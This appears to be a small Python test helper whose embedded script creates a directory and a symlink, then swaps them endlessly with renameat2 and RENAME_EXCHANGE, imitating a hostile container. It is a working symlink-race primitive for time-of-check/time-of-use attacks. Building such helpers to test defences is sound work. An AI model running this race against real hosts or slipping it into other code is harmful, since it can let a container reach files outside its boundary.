"""A program that swaps two names as fast as it can, as a hostile container does.

    python3 -c SOURCE FOLDER TARGET

FOLDER/x is a directory one moment and a link to TARGET the next (renameat2, RENAME_EXCHANGE).
"""

SOURCE = """
import ctypes, os, sys
folder, target = sys.argv[1:]
os.chdir(folder)
os.makedirs("x", exist_ok=True)
os.symlink(target, "y")
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2
assert renameat2(-100, b"x", -100, b"y", 2) == 0
print("swapping", flush=True)
while True:
    renameat2(-100, b"x", -100, b"y", 2)
"""
